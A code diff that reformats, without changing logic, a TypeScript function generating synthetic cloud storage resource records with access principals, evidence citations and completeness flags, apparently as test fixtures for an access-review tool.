     const aws = scope.provider === 'aws';
     const name = hostile && index === 3 ? HOSTILE[0] : `ledger-${index}`;
-    const type = aws ? 'AWS::S3::Bucket' : scope.provider === 'azure' ? 'microsoft.storage/storageaccounts' : 'storage.googleapis.com/Bucket';
+    const type = aws
+      ? 'AWS::S3::Bucket'
+      : scope.provider === 'azure'
+        ? 'microsoft.storage/storageaccounts'
+        : 'storage.googleapis.com/Bucket';
     return {
-      subject: { kind: 'resource', provider: scope.provider, type, uid: uidOf(scope.provider, type, scope, name), name, account: scope.account, location: scope.region === '*' ? 'westeurope' : scope.region, scope, capturedAt: null },
+      subject: {
+        kind: 'resource',
+        provider: scope.provider,
+        type,
+        uid: uidOf(scope.provider, type, scope, name),
+        name,
+        account: scope.account,
+        location: scope.region === '*' ? 'westeurope' : scope.region,
+        scope,
+        capturedAt: null,
+      },
       world: aws ? 'key-boundary' : 'data-roles',
       principals: [
-        { principal: aws ? `arn:aws:iam::${scope.account}:role/payments-app` : 'group:data-readers@northwind.example', kind: aws ? 'role' : 'group', via: aws ? 'key policy statement 1 (kms:Decrypt)' : 'role Storage Blob Data Reader', ...(aws ? {} : { inheritedFrom: 'resource group rg-data' }), conditional: index % 3 === 0, wide: false, citation: { file: 'evidence/aws-config/111122223333.eu-west-1/AWS.KMS.Key/page-000001.json', pointer: `/Results/${index}`, encoding: 'json-string' } },
-        ...(index % 6 === 2 ? [{ principal: aws ? '*' : 'allAuthenticatedUsers', kind: 'everyone', via: aws ? 'key policy statement 0' : 'role Storage Object Viewer', conditional: false, wide: true }] : []),
+        {
+          principal: aws ? `arn:aws:iam::${scope.account}:role/payments-app` : 'group:data-readers@northwind.example',
+          kind: aws ? 'role' : 'group',
+          via: aws ? 'key policy statement 1 (kms:Decrypt)' : 'role Storage Blob Data Reader',
+          ...(aws ? {} : { inheritedFrom: 'resource group rg-data' }),
+          conditional: index % 3 === 0,
+          wide: false,
+          citation: {
+            file: 'evidence/aws-config/111122223333.eu-west-1/AWS.KMS.Key/page-000001.json',
+            pointer: `/Results/${index}`,
+            encoding: 'json-string',
+          },
+        },
+        ...(index % 6 === 2
+          ? [
+              {
+                principal: aws ? '*' : 'allAuthenticatedUsers',
+                kind: 'everyone',
+                via: aws ? 'key policy statement 0' : 'role Storage Object Viewer',
+                conditional: false,
+                wide: true,
+              },
+            ]
+          : []),
       ],
-      unsettled: index % 4 === 1 ? ['Members of the groups named are not part of the evidence.', 'Grants on the key are not recorded by AWS Config.'] : [],
+      unsettled:
+        index % 4 === 1
+          ? ['Members of the groups named are not part of the evidence.', 'Grants on the key are not recorded by AWS Config.']
+          : [],
       complete: index % 4 !== 1,
     };
   });
